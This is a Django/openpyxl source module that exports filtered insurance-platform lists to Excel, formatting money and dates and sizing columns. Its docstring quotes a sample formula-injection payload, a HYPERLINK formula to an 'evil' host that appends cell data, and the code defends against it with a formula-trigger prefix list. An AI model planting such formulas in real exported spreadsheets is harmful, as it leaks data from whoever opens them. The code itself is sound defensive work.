"""Excel export of a list with its current filters and the values as displayed (openpyxl, write-only).

Every string is written as a text cell, never a formula: what an enterprise types as its 项目名称
(``=HYPERLINK("http://evil…"&A1,"点我")``) is data, and must not run in the insurer's Excel (formula injection).
A string that Excel would read as the start of a formula (= + - @, tab, CR) also gets the cell's 以文本形式存储
mark (``quotePrefix``), so it stays text when someone edits the cell, or saves the sheet as CSV and opens it again.

Values keep their type, so a clerk can sum and sort them: a ``Decimal`` is a number shown with thousands separators
and two decimals (the unit belongs in the header: 保费（元）, 累积赔偿限额（万元）), a ``datetime`` a date and time in
Beijing time, a ``date`` a date. The header row is frozen, and each column is as wide as its header and the first
rows need (CJK characters count double), within bounds.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable, Sequence
from contextlib import suppress
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal
from itertools import chain, islice
from tempfile import SpooledTemporaryFile
from typing import IO, Any

from django.http import FileResponse, HttpRequest
from django.http.response import HttpResponseBase
from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Alignment, Font, PatternFill

from .views import client_redirect

# The most rows one export writes: a sheet holds 1,048,576 rows. A larger export is refused before it is
# built (``too_many_rows``); one over ``settings.EXPORT_SYNC_ROWS`` is built by the worker (anze.downloads).
MAX_EXPORT_ROWS = 1_000_000
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

_HEADER_FONT = Font(bold=True)
_HEADER_FILL = PatternFill("solid", fgColor="F5F7FA")
# What makes Excel (or a CSV import) read a cell as a formula or a command.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
MONEY_FORMAT = "#,##0.00"
DATETIME_FORMAT = "yyyy-mm-dd hh:mm:ss"
DATE_FORMAT = "yyyy-mm-dd"
# Widths are measured on this many first rows (the sheet is streamed: its widths are written before its rows).
WIDTH_SAMPLE = 500
MIN_WIDTH, MAX_WIDTH = 8, 60


@dataclass(frozen=True)
class Sheet:
    """One sheet of a workbook: its title, header row, rows and least column widths."""

    title: str
    headers: Sequence[str]
    rows: Iterable[Sequence[Any]]
    widths: Sequence[int] | None = None


def write_xlsx(
    target: IO[bytes],
    title: str,
    headers: Sequence[str],
    rows: Iterable[Sequence[Any]],
    widths: Sequence[int] | None = None,
    *,
    progress: Callable[[int], None] | None = None,
    every: int = 1000,
) -> int:
    """Write the rows as an .xlsx workbook of one sheet into ``target``; returns how many rows it wrote.

    The one writer of every export, in the request and in the worker: the workbook is write-only (each row
    goes to openpyxl's temporary file as it comes, strings inline, so memory does not grow with the rows).
    ``widths``: the least width of each column (it grows to fit). ``progress(n)`` is called after every
    ``every`` rows."""
    return write_sheets(target, [Sheet(title, headers, rows, widths)], progress=progress, every=every)


def write_sheets(
    target: IO[bytes],
    sheets: Sequence[Sheet],
    *,
    progress: Callable[[int], None] | None = None,
    every: int = 1000,
) -> int:
    """``write_xlsx`` of several sheets, one after the other (a statistics page's tables); returns how many
    rows it wrote in all."""
    workbook = Workbook(write_only=True)
    written = 0
    started: list[Any] = []
    try:
        for part in sheets:
            sheet = workbook.create_sheet(part.title[:31])
            started.append(sheet)
            sheet.freeze_panes = "A2"
            rows = iter(part.rows)
            sample = [list(row) for row in islice(rows, WIDTH_SAMPLE)]
            for index, width in enumerate(_fitting_widths(part.headers, sample, part.widths), start=1):
                sheet.column_dimensions[_column_letter(index)].width = width
            sheet.append([_header_cell(sheet, header) for header in part.headers])
            for row in chain(sample, rows):
                sheet.append([_cell(sheet, value) for value in row])
                written += 1
                if progress is not None and written % every == 0:
                    progress(written)
        workbook.save(target)
    except BaseException:
        for sheet in started:
            _discard(sheet)
        raise
    return written


def _header_cell(sheet: Any, header: str) -> Any:
    cell = WriteOnlyCell(sheet, value=header)
    cell.font = _HEADER_FONT
    cell.fill = _HEADER_FILL
    cell.alignment = Alignment(horizontal="center")
    return cell


def _discard(sheet: Any) -> None:
    """Remove the temporary file of a sheet that will never be saved: openpyxl deletes it when the workbook is
    saved, or when the process exits — too late for a worker that runs for weeks (and the file may be large)."""
    writer = getattr(sheet, "_writer", None)
    if writer is None:
        return
    with suppress(Exception):
        sheet._rows.close()  # ends the sheet's XML while its file is still open
    with suppress(Exception):
        writer.close()
    with suppress(Exception):
        writer.cleanup()


def xlsx_filename(title: str, at: datetime | None = None) -> str:
    """订单列表_20261202083745.xlsx: the list's name and the moment (Beijing time) of the export."""
    stamp = timezone.localtime(at).strftime("%Y%m%d%H%M%S")
    return f"{title}_{stamp}.xlsx"


def xlsx_response(
    filename: str, headers: Sequence[str], rows: Iterable[Sequence[Any]], widths: Sequence[int] | None = None
) -> FileResponse:
    """The rows as an .xlsx download, built inside the request (a list small enough for that)."""
    return sheets_response(filename, [Sheet(filename, headers, rows, widths)])


def sheets_response(filename: str, sheets: Sequence[Sheet]) -> FileResponse:
    """The sheets as one .xlsx download, built inside the request."""
    buffer = SpooledTemporaryFile(max_size=8 * 1024 * 1024)  # noqa: SIM115 - closed by FileResponse
    write_sheets(buffer, sheets)
    buffer.seek(0)
    return FileResponse(
        buffer, as_attachment=True, filename=xlsx_filename(filename), content_type=XLSX_CONTENT_TYPE
    )


def xlsx_download(
    request: HttpRequest,
    filename: str,
    headers: Sequence[str],
    rows: Iterable[Sequence[Any]],
    widths: Sequence[int] | None = None,
) -> HttpResponseBase:
    """The answer of an 导出 built in the request. The toolbar's 导出 asks through htmx (a large list answers
    with a dialog, anze.downloads.responses): the file is then fetched by the browser itself — the answer
    sends it to the same URL, which downloads the file and leaves the list on screen."""
    return sheets_download(request, filename, [Sheet(filename, headers, rows, widths)])


def sheets_download(request: HttpRequest, filename: str, sheets: Sequence[Sheet]) -> HttpResponseBase:
    """``xlsx_download`` of a workbook of several sheets (a statistics page's 导出)."""
    details: Any = getattr(request, "htmx", None)
    if details and not details.boosted:
        return client_redirect(request.get_full_path())
    return sheets_response(filename, sheets)


def _cell(sheet: Any, value: Any) -> Any:
    """A string as a text cell (never a formula); money, dates and times as typed, formatted cells."""
    if isinstance(value, Decimal):
        cell = WriteOnlyCell(sheet, value=value)
        cell.number_format = MONEY_FORMAT
        return cell
    if isinstance(value, datetime):
        local = timezone.localtime(value) if timezone.is_aware(value) else value
        # Excel has no time zones; the list shows seconds, not microseconds.
        cell = WriteOnlyCell(sheet, value=local.replace(tzinfo=None, microsecond=0))
        cell.number_format = DATETIME_FORMAT
        return cell
    if isinstance(value, date):
        cell = WriteOnlyCell(sheet, value=value)
        cell.number_format = DATE_FORMAT
        return cell
    if not isinstance(value, str):
        return value
    # Control characters are not allowed in the file's XML (openpyxl raises): drop them rather than fail.
    text = ILLEGAL_CHARACTERS_RE.sub("", value)
    if not text.startswith(FORMULA_TRIGGERS):
        # openpyxl writes a plain string as a text cell itself (a formula only from "="): no cell object,
        # a quarter of the time of a large export.
        return text
    cell = WriteOnlyCell(sheet, value=text)
    cell.data_type = "s"  # openpyxl makes any "=…" a formula; a text cell is written as a string
    cell.quotePrefix = True
    return cell


def _shown(value: Any) -> str:
    """Roughly what a cell shows, to measure it."""
    if value is None:
        return ""
    if isinstance(value, Decimal):
        return f"{value:,.2f}"
    if isinstance(value, datetime):
        return "2026-01-01 00:00:00"
    if isinstance(value, date):
        return "2026-01-01"
    return str(value)


def _text_width(text: str) -> int:
    """Excel's width units: a CJK (full-width) character takes two."""
    longest = max(text.splitlines() or [""], key=len)
    return sum(2 if ord(char) > 0x2E7F else 1 for char in longest)


def _fitting_widths(
    headers: Sequence[str], sample: list[list[Any]], least: Sequence[int] | None
) -> list[int]:
    widths = []
    for index, title in enumerate(headers):
        needed = max(
            [
                _text_width(str(title)),
                *(_text_width(_shown(row[index])) for row in sample if index < len(row)),
            ]
        )
        floor = least[index] if least and index < len(least) else MIN_WIDTH
        widths.append(min(MAX_WIDTH, max(floor, MIN_WIDTH, needed + 2)))
    return widths


def _column_letter(index: int) -> str:
    letters = ""
    while index:
        index, remainder = divmod(index - 1, 26)
        letters = chr(65 + remainder) + letters
    return letters


def bounded_count(queryset: Any, limit: int) -> int:
    """The rows of ``queryset``, counted no further than ``limit + 1``: a bounded query whatever the table's
    size (how every export decides between now, the worker and a refusal)."""
    return int(queryset.order_by()[: limit + 1].count())


def too_many_rows(count: int) -> str | None:
    """The refusal of an export of more than MAX_EXPORT_ROWS rows (``count`` from ``bounded_count``), or None."""
    if count > MAX_EXPORT_ROWS:
        return f"导出数据超过{MAX_EXPORT_ROWS}条，请缩小查询范围后再导出"
    return None
